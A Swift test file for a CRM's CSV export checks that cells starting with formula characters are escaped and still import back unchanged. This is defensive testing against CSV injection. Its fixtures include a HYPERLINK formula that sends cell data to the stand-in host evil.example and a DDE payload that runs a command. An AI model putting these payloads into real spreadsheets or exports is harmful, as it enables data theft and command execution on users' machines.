import Foundation
import GRDB
import Replica
import Testing

@testable import CRM

/// CSV written by Outpost never hands a spreadsheet a formula, and still imports back to the same values.
@Suite struct CSVInjectionTests {
    static let hostile = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "@SUM(A1:A9)", "+86 138 0000 0000",
        "-2+3+cmd|' /C calc'!A0",
        "\tTabbed", "\rReturn", "'=already quoted", "''@twice",
    ]
    static let ordinary = ["Zhang", "-12.5", "+3", "1e5", "-0", "", "'", "'plain", "'-12.5", "a=b", "李记"]

    @Test func formulaCellsGetAQuoteAndNumbersStayNumbers() {
        #expect(FormulaEscape.escaped(#"=HYPERLINK("x")"#) == #"'=HYPERLINK("x")"#)
        #expect(FormulaEscape.escaped("@SUM(A1)") == "'@SUM(A1)")
        #expect(FormulaEscape.escaped("+86 138") == "'+86 138")
        #expect(FormulaEscape.escaped("-cmd") == "'-cmd")
        #expect(FormulaEscape.escaped("\tx") == "'\tx")
        #expect(FormulaEscape.escaped("\rx") == "'\rx")
        #expect(FormulaEscape.escaped("'=x") == "''=x")
        for value in Self.ordinary where !value.hasPrefix("'") {
            #expect(FormulaEscape.escaped(value) == value)
        }
    }

    @Test func unescapingUndoesEscapingForEveryValue() {
        for value in Self.hostile + Self.ordinary {
            #expect(FormulaEscape.unescaped(FormulaEscape.escaped(value)) == value, "\(value)")
            let first = FormulaEscape.escaped(value).unicodeScalars.first
            #expect(first.map { !FormulaEscape.triggers.contains($0) } ?? true || Double(value) != nil, "\(value)")
        }
    }

    @Test func exportedCSVHasNoLiveFormulaAndImportsBackUnchanged() throws {
        let fixture = try ImportFixture()
        let book = CustomerBook(replica: fixture.replica)
        for (index, name) in Self.hostile.enumerated() where !name.hasPrefix("\t") && !name.hasPrefix("\r") {
            try book.add(
                id: "H\(index)", fields: ["name": name, "region": "east", "phone": "+86 138 0000 000\(index)"])
        }
        try book.add(id: "N1", fields: ["name": "Zhang", "region": "east", "address": "-12.5"])
        let exported = fixture.directory.appendingPathComponent("export.csv").path
        let stream = OutputStream(toFileAtPath: exported, append: false)!
        stream.open()
        try TableExporter(format: .csv, personal: .shown).export(.customers, from: fixture.replica, to: stream)
        stream.close()

        let cells = try CSVRecords.read(exported).dropFirst().flatMap { $0 }
        for cell in cells {
            let first = cell.unicodeScalars.first
            #expect(first.map { !FormulaEscape.triggers.contains($0) } ?? true || Double(cell) != nil, "\(cell)")
        }
        #expect(cells.contains(#"'=HYPERLINK("http://evil.example/?x="&A1,"click")"#))
        #expect(cells.contains("-12.5"))

        let other = try ImportFixture()
        let summary = try other.run(.customers, exported)
        #expect(summary.rejected == 0)
        let columns = TableSchema.customers.allColumns.joined(separator: ", ")
        let query = "SELECT \(columns) FROM customers ORDER BY id"
        let original = try fixture.replica.reader.read { try Row.fetchAll($0, sql: query) }
        let copy = try other.replica.reader.read { try Row.fetchAll($0, sql: query) }
        #expect(original == copy)
    }

    @Test func theRejectsFileIsNeutralisedToo() throws {
        let fixture = try ImportFixture()
        let path = try fixture.file("c.csv", "id,name,region,channel\nC1,=1+1,east,@mars\n")
        let rejects = fixture.directory.appendingPathComponent("rejects.csv").path
        let summary = try fixture.run(.customers, path, rejects: rejects)
        #expect(summary.rejected == 1)
        let text = try String(contentsOfFile: rejects, encoding: .utf8)
        #expect(text.contains("'=1+1") && text.contains("'@mars"))
    }
}
